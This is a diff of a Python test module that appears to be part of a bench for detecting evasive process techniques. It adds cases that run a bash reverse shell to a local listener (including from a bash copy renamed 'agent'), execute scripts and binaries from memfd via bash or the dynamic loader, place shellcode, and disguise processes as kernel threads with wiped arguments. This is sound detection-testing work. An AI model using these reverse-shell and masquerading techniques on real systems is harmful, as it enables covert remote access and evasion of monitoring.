@@ -22,6 +22,7 @@ from tests.integration._memory_techniques.bench import PYTHON, Bench, Started, w
 # 127.0.0.1:4660 as code.S has it in an address.
 _PORT = b"\x02\x00\x12\x34"
 _KEY = 0x5A
+_LOADER = os.path.realpath("/lib64/ld-linux-x86-64.so.2")
 
 
 # Executed from memory, or gone
@@ -98,6 +99,12 @@ def script_in_memfd(bench: Bench) -> Started:
     return bench.run(PYTHON, bench.programs / "memory_script.py", PYTHON, script)
 
 
+def script_in_memfd_as_input(bench: Bench) -> Started:
+    """Have a shell read its commands from a memfd, as it would from a terminal."""
+    memory = _memory_file(bench, b"echo ready; sleep 1000; true\n")
+    return bench.run("/bin/bash", stdin=memory)
+
+
 def script_from_the_network(bench: Bench) -> Started:
     """Do what "curl | sh" does, with a script that connects back."""
     port = _listener(bench)
@@ -113,7 +120,12 @@ def script_of_a_process_substitution(bench: Bench) -> Started:
 
 
 def loader_as_launcher(bench: Bench) -> Started:
-    return bench.run(os.path.realpath("/lib64/ld-linux-x86-64.so.2"), _copy(bench, bench.scratch))
+    return bench.run(_LOADER, _copy(bench, bench.scratch))
+
+
+def loader_and_memfd(bench: Bench) -> Started:
+    memory = _memory_file(bench, pathlib.Path(bench.programs / "wait").read_bytes())
+    return bench.run(_LOADER, f"/proc/self/fd/{memory}", pass_fds=(memory,))
 
 
 # Code where none should be
@@ -146,6 +158,10 @@ def shellcode_shared(bench: Bench) -> Started:
 def shellcode_as_dotnet(bench: Bench) -> Started:
     """Give it the place that code of .NET has: a file in memory that is called "doublemapper"."""
     return _placed(bench, "doublemapper", "reverse", how="keep")
+
+
+def shellcode_of_system_v(bench: Bench) -> Started:
+    return _placed(bench, "system-v", "sleep")
 
 
 def shellcode_mapped_twice(bench: Bench) -> Started:
@@ -201,6 +217,16 @@ def reverse_shell_of_bash(bench: Bench) -> Started:
     connect = f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
     started = bench.run("/bin/bash", "-c", f"echo ready port={port}; exec {connect}")
     wait_for(lambda: b"-i" in _arguments(started.pid), "the shell")
+    return started
+
+
+def reverse_shell_of_a_copy(bench: Bench) -> Started:
+    """Do the same with a shell that is called otherwise."""
+    port = _listener(bench)
+    shell = shutil.copy("/bin/bash", bench.programs / "agent")
+    connect = f"{shell} -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
+    started = bench.run("/bin/bash", "-c", f"echo ready port={port}; exec {connect}")
+    wait_for(lambda: _executable(started.pid) == shell, "the shell")
     return started
 
 
@@ -354,6 +380,16 @@ def kernel_thread_name(bench: Bench) -> Started:
     return bench.run(bench.programs / "wait", "kworker/0:1", name="[kworker/0:1]")
 
 
+def kernel_thread_name_alone(bench: Bench) -> Started:
+    """Have that name where top(1) shows it, and not at the command line."""
+    return bench.run(bench.programs / "wait", "kworker/0:1")
+
+
+def arguments_wiped(bench: Bench) -> Started:
+    """Have no arguments, which has ps(1) show the name in brackets."""
+    return bench.run(bench.programs / "wait", "rcu_tasks", "wiped")
+
+
 def daemon_name(bench: Bench) -> Started:
     return bench.run(_copy(bench, bench.scratch), name="/usr/sbin/sshd")
 
@@ -428,6 +464,15 @@ def _with_facts(started: Started, **facts: str) -> Started:
 
 def _copy(bench: Bench, directory: str | os.PathLike[str], name: str = "update") -> str:
     return str(shutil.copy(bench.programs / "wait", os.path.join(directory, name)))
+
+
+def _memory_file(bench: Bench, content: bytes) -> int:
+    """Return a descriptor of a file in memory, which is closed when the technique is ended."""
+    memory = os.memfd_create("data")
+    bench.resources.callback(os.close, memory)
+    os.write(memory, content)
+    os.lseek(memory, 0, os.SEEK_SET)
+    return memory
 
 
 def _removed_directory(bench: Bench, parent: str) -> str:
